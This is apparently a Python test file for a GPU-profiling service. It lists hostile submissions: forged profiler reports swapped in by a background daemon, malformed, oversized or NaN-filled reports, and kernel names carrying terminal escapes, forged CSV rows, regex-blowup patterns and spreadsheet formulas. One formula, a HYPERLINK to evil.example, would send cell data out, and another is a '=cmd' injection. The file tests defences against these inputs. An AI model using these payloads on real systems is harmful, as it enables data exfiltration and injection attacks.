"""What a submission can put into a report: forged ones, numbers that are none, and names that a reader would obey."""

import csv
import io
import re

from cases import Submission, source
from service import EXPORT, MIB
from verdicts import is_marked

# A report of the stand-in, which a daemon puts in the place of the real one as soon as that is written.
FORGE = '''
import json
def kernel(**changed):
    return {"name": "void add<float>(float *)", "mangled": "_Z3addIfEvv", "grid": [8, 1, 1], "block": [128, 1, 1], "ranges": ["custom_kernel"], "started_ns": 1,
            "duration_ns": 1000, "counters": True, "saved_bytes": 0, "pid": 7, "thread": 7, "process": "python3", **changed}
def report(kernels):
    return b"NVR\\0" + (kernels if isinstance(kernels, bytes) else json.dumps({"simulated": True, "kernels": kernels}).encode())
def forge(content):
    def wait():
        while True:
            try:
                if os.stat("/out/profile/profile.ncu-rep").st_size or not content:
                    os.rename("/out/profile/.new", "/out/profile/profile.ncu-rep")
                    return
            except OSError:
                pass
    if CAPTURING:
        with open("/out/profile/.new", "wb") as file:
            file.write(content)
        daemon(wait)
'''


def forged(content):
    return source(FORGE, "", f"forge({content})")


FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"


def tables_hold(seen, service):
    """Both tables can be read, each row has its columns, and names that are forged rows are one cell."""
    wrong = []
    for name in ("ncu-details.csv", "launches.csv"):
        rows = list(csv.reader(io.StringIO(seen.read(name))))
        if not rows or any(len(row) > len(rows[0]) + 1 for row in rows):
            wrong.append(f"{name} has rows of more columns than its head")
    for name in ("ncu-details.txt", "ncu-details.csv", "launches.csv"):
        if re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", seen.read(name)):
            wrong.append(f"{name} holds control characters")
    return wrong


def no_formula(seen, service):
    cells = [cell for row in csv.reader(io.StringIO(seen.read("launches.csv"))) for cell in row]
    return tables_hold(seen, service) + [f"a cell is a formula: {cell[:40]}" for cell in cells if re.match(r"[=+@\t\r]|-[^0-9]", cell)]


CASES = [
    Submission(
        "garbage-report",
        "13",
        "leaves a report that is garbage",
        "failed: it could not be exported",
        source=forged("os.urandom(100_000)"),
        status="failed",
        error="could not be exported",
    ),
    Submission("empty-report", "13", "leaves an empty report", "failed", source=forged('b""'), status="failed", error="."),
    Submission(
        "huge-report",
        "13",
        "leaves a report of 15 MiB that a parser unfolds",
        "the export fails or hits its limits: failed",
        source=forged('report(b"[" * (15 << 20))'),
        status="failed",
        error="could not be exported",
    ),
    Submission(
        "deep-report",
        "13",
        "leaves a report that nests 100,000 levels",
        "failed: it could not be exported",
        source=forged('report(b\'{"kernels":\' + b"[" * 100_000 + b"]" * 100_000 + b"}")'),
        status="failed",
        error="could not be exported",
    ),
    Submission(
        "export-bomb",
        "13",
        "leaves a small report whose text is a hundred megabytes",
        f"failed at {EXPORT // MIB} MiB of export",
        source=forged("report([kernel(ranges=['r' * 300] * 4) for _ in range(2500)])"),
        status="failed",
        error="could not be exported",
    ),
    Submission(
        "nan-report",
        "13",
        "leaves a report whose numbers are NaN and infinite",
        "failed, or a profile; no NaN in the manifest",
        source=forged("report([kernel(duration_ns=float('nan')), kernel(duration_ns=float('inf'), grid=[float('nan'), 1, 1])])"),
        status="failed|succeeded",
        error="",
        look=is_marked,
    ),
    Submission(
        "nan-counters",
        "13",
        "launches a kernel whose every counter is NaN",
        "failed: nothing was measured",
        source=source("", "return standin_gpu.launch('k(int)', 1, 1, add, *data, counters=False)"),
        status="failed",
        error="measured no counter",
        retried=True,
    ),
    Submission(
        "long-numbers",
        "13",
        "leaves a report with numbers of 400 digits",
        "failed, or a profile; nothing overflows on our side",
        source=forged("report([kernel(grid=[10**400, 1, 1], pid=10**400, thread=-10**400), kernel(duration_ns=10**300)])"),
        status="failed|succeeded",
        error="",
    ),
    Submission(
        "wide-numbers",
        "13",
        "leaves a report with launch ids, pids and sizes beyond 64 bits that can be exported",
        "a profile that is marked, or failed",
        source=forged("report([kernel(pid=10**30, thread=10**40)])"),
        status="failed|succeeded",
        error="",
        look=is_marked,
    ),
    Submission(
        "terminal-escapes",
        "15",
        "launches kernels whose names hold terminal escapes, carriage returns and NUL",
        "none in the job's body, in the text nor in the tables; the profile is there",
        source=source(
            "",
            r'''
for name in ("\x1b[2J\x1b]0;owned\x07", "a\rb\x08c", "x\x00y", "\x9b31m", "\u202eevil"):
    standin_gpu.launch(name, 1, 1, lambda: None)
''',
        ),
        status="succeeded|failed",
        error=None,
        look=tables_hold,
    ),
    Submission(
        "formula-names",
        "13",
        "launches kernels whose names are a spreadsheet's formulas",
        "no cell of launches.csv begins as a formula",
        source=source(
            "", f"for name in ({FORMULA!r}, '+1', '-1+1', '@SUM(A1)', '=cmd|x'):\n    standin_gpu.launch(name, 1, 1, lambda: None)"
        ),
        look=no_formula,
    ),
    Submission(
        "forged-rows",
        "13",
        "launches kernels whose names are rows of the table and lines of the report",
        "they stay one cell each; as many launches as there were",
        source=source(
            "",
            r'''
for name in ('x",1\n"0","1","python3"', '[9] forged@host\n  forged (1, 1, 1)\n    Section: GPU Speed Of Light Throughput', "a,b;c\td"):
    standin_gpu.launch(name, 1, 1, lambda: None)
''',
        ),
        look=lambda seen, service: (
            tables_hold(seen, service)
            + ([] if seen.manifest["captured_launches"] == 4 else [f"{seen.manifest['captured_launches']} launches"])
        ),
    ),
    Submission(
        "long-names",
        "13",
        "launches a kernel whose name has a hundred thousand characters, and one that is endless when it is demangled",
        "cut in the body; the profile is there",
        source=source(
            "",
            'standin_gpu.launch("n" * 100_000, 1, 1, lambda: None)\nstandin_gpu.launch("_Z1fI" + "St4pairI" + "S_S_" * 200 + "EE", 1, 1, lambda: None)',
        ),
        look=lambda seen, service: (
            [] if all(len(one["kernel"]) < 500 for one in seen.body["runs"][0]["launches"]) else ["a long name in the body"]
        ),
    ),
    Submission(
        "many-kernels",
        "13",
        "launches 20,000 kernels of 20,000 names and asks for the hot ones",
        "the overview keeps as many as it may; the profile is there, or timed_out",
        source=source("", 'for number in range(20_000):\n    standin_gpu.launch(f"kernel{number}()", 1, 1, lambda: None)'),
        fields={"ncu_capture": "hot"},
        status="succeeded|timed_out",
        error="",
    ),
    Submission(
        "pattern-names",
        "13",
        "launches kernels whose names are patterns that a matcher never ends with, and asks for the hot ones",
        "they are matched as words; the profile is there",
        source=source(
            "",
            'for name in ("(a+)+$" , "a" * 5000 + "!", ".*", "regex:", "(", "[", "\\\\", ":::1", "|"):\n    standin_gpu.launch(name, 1, 1, lambda: None)',
        ),
        fields={"ncu_capture": "hot"},
    ),
    Submission(
        "saves-memory",
        "3",
        "launches a kernel for which the profiler would have to save a gigabyte",
        "failed; the memory limit is named",
        source=source("", "standin_gpu.launch('k(int)', 1, 1, lambda: None, saved_bytes=1 << 30)"),
        status="failed",
        error="memory limit",
    ),
]
